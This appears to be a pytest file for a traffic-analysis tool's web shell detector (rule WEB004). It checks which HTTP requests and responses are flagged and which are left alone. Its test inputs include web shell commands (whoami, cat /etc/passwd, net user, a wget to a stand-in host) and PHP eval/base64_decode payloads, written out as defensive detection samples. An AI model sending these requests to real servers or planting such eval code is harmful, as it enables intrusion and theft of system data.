"""WEB004: a command to a script that answers; quiet on a product's own words, on missing scripts, and on scans."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.builders import drafts, family, files, tables
from tests.conftest import case_capture, fixture_capture
from tests.rules.access import rows, wire
from tests.rules.access.rows import back, there
from tshark_report.rules.access.web_shell_calls import web_shell_calls


def asked(uri: str, *, status: int = 200, body: bytes = b"", **columns: Any) -> Any:
    row = there(dst_port=80, method="GET", uri=uri)
    made = family("http", row | columns, back(src_port=80, status=status, request_frame=1))
    return tables(http=made, files=files({"frame": 2, "head": body}))


@pytest.mark.parametrize(
    "uri",
    [
        "/up/a.php?cmd=whoami",
        "/a.jsp?cmd=cat+/etc/passwd",
        "/x.aspx?c=net+user",
        "/s.php?exec=wget+http://203.0.113.9/m",
    ],
)
def test_high_where_the_script_answers(uri: str) -> None:
    found = drafts(web_shell_calls, asked(uri))
    assert [(d.priority, d.confidence, d.hosts) for d in found] == [("high", "medium", (rows.SERVER, rows.CLIENT))]


def test_the_answer_is_the_proof() -> None:
    found = drafts(web_shell_calls, asked("/a.php?cmd=id", body=b"uid=33(www-data) gid=33(www-data)\n"))
    assert [(d.priority, d.confidence) for d in found] == [("high", "high")]
    assert "ran them" in found[0].title


def test_code_in_a_form() -> None:
    form = {"form_keys": ["z0"], "form_values": ['@ini_set("display_errors","0");@eval(base64_decode($_POST[a]))']}
    assert drafts(web_shell_calls, asked("/up/a.php", method="POST", **form))


@pytest.mark.parametrize(
    "uri",
    [
        "/admin.php?cmd=list",
        "/a.php?q=id",
        "/a.php?c=ls",
        "/page.html?cmd=whoami",
        "/a.php?topic=whoami",
        "/api/run?cmd=whoami",
    ],
)
def test_quiet_on_look_alikes(uri: str) -> None:
    assert not drafts(web_shell_calls, asked(uri))


def test_quiet_where_no_such_script_is() -> None:
    assert not drafts(web_shell_calls, asked("/up/a.php?cmd=whoami", status=404))


def test_on_the_wire(loaded: Any, tmp_path: Path) -> None:
    said = [("c", wire.http_request("GET", "/up/a.php?cmd=whoami")), ("s", wire.http_answer(200, "www-data\n"))]
    said += [("c", wire.http_request("GET", "/up/b.php?x=1")), ("s", wire.http_answer(200))]
    path = wire.write(tmp_path / "shell.pcap", wire.conversation(0, wire.OUTSIDE, wire.SERVER, (47000, 80), said))
    found = drafts(web_shell_calls, loaded(path).tables)
    assert len(found[0].frames) == 1
    assert wire.exact(path, found[0])


def test_on_this_projects_fixture(loaded: Any) -> None:
    path = fixture_capture("web_attacks")
    found = drafts(web_shell_calls, loaded(path).tables)
    assert "/uploads/avatar.php" in found[0].summary
    assert found[0].confidence == "high"
    assert wire.exact(path, found[0])


@pytest.mark.shared
def test_a_scan_is_no_shell(loaded: Any) -> None:
    assert not drafts(web_shell_calls, loaded(case_capture("ndpi_nikto_rce")).tables)


def test_code_in_a_body() -> None:
    row = there(dst_port=80, method="POST", uri="/up/a.php")
    made = family("http", row, back(src_port=80, status=200, request_frame=1))
    code = b"<?php @eval($_POST['x']); ?>"
    assert drafts(web_shell_calls, tables(http=made, files=files({"frame": 1, "head": code})))
    assert not drafts(web_shell_calls, tables(http=made, files=files({"frame": 1, "head": b"name=$_POST['x']"})))
